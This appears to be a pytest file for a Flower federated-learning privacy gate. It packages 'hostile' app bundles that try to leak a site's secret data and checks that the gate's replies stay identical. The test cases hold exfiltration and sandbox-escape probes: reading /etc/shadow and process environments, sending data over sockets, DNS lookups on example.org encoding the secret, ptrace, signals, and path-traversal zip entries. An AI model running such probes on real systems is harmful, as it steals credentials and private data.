"""Hostile bundles: whatever one tries, the bytes of its reply do not depend on what the site's data hold.

An app may always choose whether it fails, which is a bit that a policy can't take away: no case here makes use of it.
"""

import io
import os
import socket
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from flwr.app import Message

from fl_privacy.flower.app_process import Bundles, Cell
from fl_privacy.flower.gate import Gate
from fl_privacy.flower.inside.identity import identify_process, identity_put_back
from fl_privacy.flower.inside.supernode import Brought
from fl_privacy.site.gate.isolation import Isolation
from fl_privacy.site.gate.rules import REASONS
from tests.gate.apps import SECRETS
from tests.gate.test_bundles import PROJECT, digest, question
from tests.gate.test_gate import ASKED_AT, said

pytestmark = pytest.mark.long  # forty processes that load PyTorch

POLICY = """
version: 1
receives: {{records: {{arrays: [arrays]}}, guard: off}}
sends:
  every_seconds: {every}
  train:
    arrays: {{like: received}}
    metrics: {{allow: {{num-examples: {{integer: true, at_least: 32, round_to: 32}}, train_loss: {{digits: 3}}}}}}
budget: {{ledger: site/ledger, anchor: away/anchor}}
app: {{reads: [data], seconds: 60}}
runs: {{approve: never, allow: [{{app: someone/hostile, version: 1.2.0}}]}}
"""

CODE = '''
import atexit, ctypes, json, logging, os, signal, socket, struct, subprocess, sys, tempfile, threading, time
from pathlib import Path
import numpy as np
from flwr.app import Array, ArrayRecord, ConfigRecord, Error, Message, MetricRecord, RecordDict
from flwr.clientapp import ClientApp

SITE, HOST, PORT, GATE = {site!r}, {host!r}, {port}, {gate}
secret = Path(SITE, "data", "example").read_bytes()
client, reached = ClientApp(), []

def tries(what, function):
    """Note what can be reached; a reply then has other bytes than an honest one's."""
    try:
        if function() is not False:
            reached.append(what)
    except Exception:
        pass

def reply(message, content):
    return Message(RecordDict(content), reply_to=message)

def opened(place):
    return bool(os.listdir(place) if place.is_dir() else place.read_bytes())

@client.train()
def train(message, context):
    arrays = {{k: a.numpy() for k, a in message.content["arrays"].items()}}
    metrics, more = {{"num-examples": 64, "train_loss": 0.5}}, {{}}
{body}
    if reached:
        raise RuntimeError(str(reached))
    held = ArrayRecord({{k: Array.from_numpy_ndarray(a) for k, a in arrays.items()}})
    return reply(message, {{"arrays": held, "metrics": MetricRecord(metrics), **more}})
'''

CASES = {
    "files of the site": """
    for name in ("site/node.key", "site/ledger", "away/anchor", "site.yaml", "site/runs"):
        tries(name, lambda: opened(Path(SITE, name)))
    for name in ("/etc/shadow", "/root", "/home", "/var", "/proc/1/root/etc/shadow", f"/proc/{GATE}/environ"):
        tries(name, lambda: opened(Path(name)))
""",
    "writes to the data": """
    for name in ("data/new", "site/new", "new"):
        tries("written", lambda: Path(SITE, name).write_bytes(secret) and False)
    tries("example", lambda: Path(SITE, "data", "example").write_bytes(b"changed") and False)
    tries("gone", lambda: os.unlink(Path(SITE, "data", "other")) or False)
""",
    "a socket of the internet": """
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        def call():
            with socket.socket(socket.AF_INET, kind) as wire:
                wire.settimeout(1)
                wire.connect((HOST, PORT))
                wire.sendall(secret)
                return kind == socket.SOCK_STREAM
        tries("wire", call)
    tries("names", lambda: socket.gethostbyname(secret[:8].hex() + ".example.org"))
""",
    "a socket in a file": """
    def call(folder):
        with socket.socket(socket.AF_UNIX) as wire:
            wire.settimeout(1)
            wire.connect(str(Path(SITE, folder, "listens")))
            wire.sendall(secret)
    for folder in ("data", "packages"):
        tries("socket", lambda: call(folder))
    tries("abstract", lambda: socket.socket(socket.AF_UNIX).connect(chr(0) + "listens"))
    tries("pipe", lambda: os.write(os.open(Path(SITE, "data", "pipe"), os.O_WRONLY | os.O_NONBLOCK), secret))
""",
    "the environment": """
    tries("variables", lambda: any(word in name for name in os.environ for word in ("SECRET", "TOKEN", "FLWR")))
    for place in Path("/proc").glob("[0-9]*/environ"):
        tries("others", lambda: b"SECRET" in place.read_bytes())
""",
    "names of metrics": "    metrics[secret.hex()] = 1.0",
    "names of records": "    more[secret.hex()] = MetricRecord({'a': 1})",
    "names of arrays": "    arrays[secret.hex()] = arrays.pop('w')",
    "an extra record of arrays": "    more['more'] = ArrayRecord([np.frombuffer(secret, np.uint8)])",
    "an extra record of texts": "    more['config'] = ConfigRecord({'note': secret.hex(), 'raw': secret})",
    "an exception's text": "    raise ValueError(secret.hex())",
    "an exception's kind": "    raise (KeyError if secret[0] % 2 else type(secret.hex(), (BaseException,), {}))",
    "an error instead of a reply": "    return Message(Error(secret[0], secret.hex()), reply_to=message)",
    "logs": """
    print(secret.hex(), flush=True)
    print(secret.hex(), file=sys.stderr, flush=True)
    logging.getLogger("flwr").error(secret.hex())
    atexit.register(print, secret.hex())
    os.write(2, secret)
""",
    "low bits of a metric": "    metrics['train_loss'] = 0.5 + int.from_bytes(secret[:4], 'big') * 1e-13",
    "low bits of a count": "    metrics['num-examples'] = 64 + secret[0] % 8",
    "bits of what is no number": """
    bits = 0x7FC00000 + np.resize(np.frombuffer(secret, np.uint16), 6).astype(np.uint32)
    arrays["w"] = bits.view(np.float32)
""",
    "another type": "    arrays['w'] = np.resize(np.frombuffer(secret, np.uint8), 6).astype(np.float64)",
    "another shape": "    arrays['w'] = np.zeros(secret[0], np.float32)",
    "bytes behind an array": """
    data = Array.from_numpy_ndarray(arrays["w"]).data + secret
    raw = Array(dtype="float32", shape=(6,), stype="numpy.ndarray", data=data)
    return reply(message, {"arrays": ArrayRecord({"w": raw}), "metrics": MetricRecord(metrics)})
""",
    "the order of keys": "    metrics = dict(sorted(metrics.items(), reverse=secret[0] % 2 == 0))",
    "the order of arrays": "    arrays = dict(sorted(arrays.items(), reverse=secret[0] % 2 == 0))",
    "empty records": """
    for number in range(secret[0] % 5):
        more[f"metrics-{number}"], more[f"arrays-{number}"] = MetricRecord(), ArrayRecord()
        more[f"config-{number}"] = ConfigRecord()
""",
    "the sign of zero": "    metrics['train_loss'] = -0.0 if secret[0] % 2 else 1e-300",
    "the type of a count": "    metrics['num-examples'] = 64.0 if secret[0] % 2 else 64",
    "the length of a list": "    metrics['train_loss'] = [0.5] * (1 + secret[0] % 9)",
    "the header of an array": """
    data, bits = Array.from_numpy_ndarray(arrays["w"]).data, "".join(f"{byte:08b}" for byte in secret[:8])
    wide = data[10:data.index(b"}") + 1] + bits.replace("0", " ").replace("1", chr(9)).encode() + chr(10).encode()
    made = data[:8] + struct.pack("<H", len(wide)) + wide + arrays["w"].tobytes()
    raw = Array(dtype="float32", shape=arrays["w"].shape, stype="numpy.ndarray", data=made)
    return reply(message, {"arrays": ArrayRecord({"w": raw}), "metrics": MetricRecord(metrics)})
""",
    "notes of an exception": """
    error = ValueError("an error")
    error.add_note(secret.hex())
    raise ExceptionGroup(secret.hex(), [error] * (1 + secret[0] % 9)) from KeyError(secret.hex())
""",
    "the message's metadata": """
    made = reply(message, {"arrays": message.content["arrays"], "metrics": MetricRecord(metrics)})
    kind = "train." + "x" * secret[0]
    made.metadata.__dict__.update(_dst_node_id=secret[0], _group_id=secret.hex(), _message_type=kind)
    made.metadata.ttl = 100.0 + secret[0]
    return made
""",
    "the app's state": "    context.state['own'] = ConfigRecord({'kept': secret})",
    "a forged answer": """
    frame = struct.pack(">4Q", 3, 0, 0, 64) + secret
    for number in range(3, 40):
        tries("forged", lambda: os.set_blocking(number, False) or os.write(number, frame) and False)
""",
    "the way in which it ends": "    os.kill(os.getpid(), signal.SIGKILL if secret[0] % 2 else signal.SIGSEGV)",
    "a process that stays": """
    if os.fork() == 0:
        os.setsid()
        os.closerange(0, 3)
        time.sleep(3600)
    threading.Thread(target=time.sleep, args=(3600,)).start()
""",
    "when it is loaded": "    pass\nraise ImportError(secret.hex())\nif True:\n    pass",
    "the gate's process": """
    tries("killed", lambda: os.kill(GATE, 0) or GATE != os.getpid() and Path(f"/proc/{GATE}/cmdline").exists())
    tries("traced", lambda: ctypes.CDLL(None).ptrace(16, GATE, 0, 0) == 0)
""",
    "descriptors and folders of others": """
    for other in (*Path("/proc").glob("[0-9]*"), "/proc/self", "/proc/thread-self"):
        tries(f"{other}/root", lambda: bool(os.listdir(f"{other}/root{SITE}/site")))
        tries(f"{other}/cwd", lambda: bool(os.listdir(f"{other}/cwd/../../../../../../..{SITE}/site")))
        for number in range(64):
            link = f"{other}/fd/{number}"
            own = ("pipe:", "anon_inode:", "/dev/", "/proc/", "/usr/", sys.prefix, sys.base_prefix)
            tries(link, lambda: not os.readlink(link).startswith(own))
            tries(f"{link}/..", lambda: bool(os.listdir(f"{link}/../../../..{SITE}/site")))
""",
    "signals": """
    import fcntl
    number = signal.SIGSTOP if secret[0] % 2 else signal.SIGKILL
    for process in {1, os.getppid(), GATE, -GATE, -1} - {os.getpid(), -os.getpgrp()}:
        tries("signalled", lambda: os.kill(process, number) and False)
    for pipe in range(3, 16):
        tries("owner", lambda: GATE != os.getpid() and fcntl.fcntl(pipe, fcntl.F_SETOWN, GATE) == 0)
""",
    "warnings": """
    import faulthandler, warnings
    warnings.simplefilter("always")
    warnings.warn_explicit(secret.hex(), UserWarning, secret.hex(), secret[0])
    sys.unraisablehook = lambda told: print(secret.hex(), file=sys.__stderr__, flush=True)
    faulthandler.dump_traceback(all_threads=True)
    sys.stdout.buffer.write(b"\\r\\x1b[2J" + secret)
""",
    "the exit status": "    os._exit(81 + secret[0] % 2)",
    "a core dump": """
    import resource
    tries("limit", lambda: resource.getrlimit(resource.RLIMIT_CORE) != (1, 1))
    tries("limited", lambda: resource.setrlimit(resource.RLIMIT_CORE, (0, 0)))
    if os.fork() == 0:
        os.kill(os.getpid(), signal.SIGSEGV)
    tries("dumped", lambda: os.WCOREDUMP(os.wait()[1]))
""",
    "devices and settings that all share": """
    settings = map(Path, ("/etc/passwd", "/etc/localtime", "/etc/ld.so.cache"))
    for place in (*Path("/dev").glob("[!s]*"), *settings, Path(os.__file__)):
        about = place.stat()
        tries(f"{place} mode", lambda: place.chmod(about.st_mode & 0o7777) or True)
        tries(f"{place} times", lambda: os.utime(place, ns=(about.st_atime_ns, about.st_mtime_ns)) or True)
        tries(f"{place} owner", lambda: os.chown(place, about.st_uid, about.st_gid) or True)
        tries(f"{place} name", lambda: place.rename(place.with_name("new")) or True)
    for place in ("/dev/null", "/dev/urandom"):
        with open(place, "r+b", 0) as device:
            device.write(secret)
""",
    "nodes, names and clocks of the machine": """
    for kind, number in ((0o020600, os.makedev(1, 1)), (0o060600, os.makedev(254, 0))):
        tries("node", lambda: os.mknod("node", kind, number) or True)
    for name in ("host", "domain"):
        call = getattr(ctypes.CDLL(None, use_errno=True), f"set{name}name")
        tries(name, lambda: call(secret, 8) == 0)
    tries("clock", lambda: time.clock_settime(time.CLOCK_REALTIME, time.time()) or True)
    for place in ("/proc/sys/kernel/hostname", "/proc/sys/kernel/core_pattern", "/proc/self/oom_score_adj"):
        tries(place, lambda: Path(place).write_bytes(b"999") and True)
    tries("link", lambda: os.link(os.__file__, "link") or True)
    tries("attribute", lambda: os.setxattr(os.__file__, "user.kept", secret) or True)
""",
    "records of another kind": """
    made = {"metrics": ArrayRecord([np.frombuffer(secret, np.uint8)]), "arrays": MetricRecord(metrics)}
    return reply(message, made)
""",
    "a metric that is no number": """
    metrics["train_loss"] = struct.unpack("d", struct.pack("Q", 0x7FF8 << 48 | int.from_bytes(secret[:6], "big")))[0]
""",
    "numbers too small to be rounded": "    metrics['train_loss'] = 5e-324 * secret[0]",
    "the size of the app's state": "    context.state['own'] = ConfigRecord({'kept': bytes(secret[0] << 18)})",
}
"""Channel -> how a bundle's app tries it."""


@pytest.fixture(scope="module")
def listener() -> Iterator[socket.socket]:
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen()
        server.settimeout(0.1)
        yield server


@pytest.fixture
def site(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    for name in ("site", "away", "data", "packages"):
        (tmp_path / name).mkdir(mode=0o700)
    (tmp_path / "site" / "node.key").write_bytes(b"the key of the node")
    (tmp_path / "data" / "other").write_bytes(b"another example")
    os.mkfifo(tmp_path / "data" / "pipe")
    monkeypatch.setenv("NODE_SECRET_KEY", "a variable of the node")
    start = Cell.open
    monkeypatch.setattr(Cell, "open", lambda cell: start(cell) if cell.app else Isolation())
    monkeypatch.setenv("PYTHONPATH", str(tmp_path / "packages"))
    with socket.socket(socket.AF_UNIX) as server, socket.socket(socket.AF_UNIX) as other, identity_put_back():
        for listens, folder in ((server, "data"), (other, "packages")):
            monkeypatch.chdir(tmp_path / folder)
            listens.bind("listens")
            listens.listen()
            listens.settimeout(0.1)
        identify_process()
        yield tmp_path
        for listens in (server, other):
            with pytest.raises(TimeoutError):
                listens.accept()


def hostile(body: str, site: Path, listener: socket.socket, more: dict[str, bytes] | None = None) -> bytes:
    host, port = listener.getsockname()
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("pyproject.toml", PROJECT.format(name="hostile", packages="[]", more=""))
        code = CODE.format(site=str(site), host=host, port=port, gate=os.getpid(), body=body.strip("\n"))
        archive.writestr("brought_app.py", code)
        for name, content in (more or {}).items():
            archive.writestr(name, content)
    return made.getvalue()


def bundles_of(site: Path, every: float = 0) -> Bundles:
    (site / "site.yaml").write_text(POLICY.format(every=every))
    (site / "site.yaml").chmod(0o600)
    return Bundles(Gate(site / "site.yaml"))


def replied(bundles: Bundles, content: bytes, site: Path, example: bytes) -> Message:
    (site / "data" / "example").write_bytes(example)
    message, context = question()
    message.metadata.__dict__["_created_at"] = ASKED_AT
    reply = bundles.answer(message, context, Brought(content, ()))
    assert reply is not None
    assert not context.state, "what the app keeps goes no further than the gate"
    return reply


@pytest.mark.parametrize("case", CASES)
def test_a_reply_does_not_depend_on_what_a_hostile_bundle_finds(case: str, site: Path, listener: socket.socket) -> None:
    assert len(CASES) >= 20
    bundles, content = bundles_of(site), hostile(CASES[case], site, listener)
    replies = [replied(bundles, content, site, example) for example in SECRETS]
    first, second = map(said, replies)
    assert first == second
    for example in SECRETS:
        assert example[:8] not in first and example[:8].hex().encode() not in first
    if replies[0].has_error():
        assert replies[0].error.reason in {f"The site's policy lets no reply leave: {why}." for why in REASONS.values()}
    assert not any(bundles.gate.refused) or "reached" not in str(bundles.gate.refused)
    honest = case in HONEST
    assert replies[0].has_content() or not honest, bundles.gate.refused
    with pytest.raises(TimeoutError):
        listener.accept()
    assert (site / "data" / "example").read_bytes() == SECRETS[1] and (site / "data" / "other").exists()
    assert not list(site.rglob("new"))
    ledger = bundles.gate.ledger
    assert ledger is not None
    assert [entry.fab for entry in ledger.entries()] == [digest(content)] * 2


HONEST = (
    *("files of the site", "writes to the data", "a socket of the internet", "a socket in a file", "the environment"),
    *("the order of arrays", "empty records", "the sign of zero", "the type of a count"),
    *("logs", "low bits of a metric", "low bits of a count", "the order of keys", "the app's state"),
    *("a process that stays", "the gate's process", "descriptors and folders of others", "signals", "warnings"),
    *("a core dump", "devices and settings that all share", "nodes, names and clocks of the machine"),
    *("numbers too small to be rounded", "the size of the app's state"),
)
"""Channels after which the reply is an honest one: what was tried came to nothing, or it raises what it reached."""


@pytest.mark.parametrize(
    "then", ["", "; raise ValueError()", pytest.param("; metrics[secret.hex()] = 1.0", marks=pytest.mark.fuzz)]
)
def test_a_slow_app_s_reply_leaves_at_a_multiple_of_the_policy_s_seconds(
    then: str, site: Path, listener: socket.socket
) -> None:
    bundles, every = bundles_of(site, every=6.0), 6.0
    content = hostile(f"    time.sleep(2 * (secret[0] % 2)){then}", site, listener)
    for example in SECRETS:
        started = time.monotonic()
        assert replied(bundles, content, site, example).has_content() == (not then)
        late = (time.monotonic() - started) % every
        assert late < 1.5, "the stated bound is what waking up takes"


def test_what_a_run_leaves_behind_is_not_found_by_another(site: Path, listener: socket.socket) -> None:
    places = 'for place in (tempfile.gettempdir(), "/dev/shm", str(Path.home()), str(Path.cwd()), SITE + "/data"):'
    leaves = f'    {places}\n        tries("left", lambda: Path(place, "left").write_bytes(secret) and False)'
    finds = f'    {places}\n        tries("found", lambda: Path(place, "left").exists())'
    bundles = bundles_of(site)
    for body in (leaves, finds):
        assert replied(bundles, hostile(body, site, listener), site, SECRETS[0]).has_content(), bundles.gate.refused


def test_a_bundle_is_unpacked_nowhere_but_in_its_own_memory(site: Path, listener: socket.socket) -> None:
    names = ("../../new", f"{site}/new", "a/../../../new", f"{site}/data/new")
    content = hostile("    pass", site, listener, dict.fromkeys(names, b"x"))
    reply = replied(bundles_of(site), content, site, SECRETS[0])
    assert reply.has_content()
    assert not list(site.rglob("new")) and not Path("/new").exists()
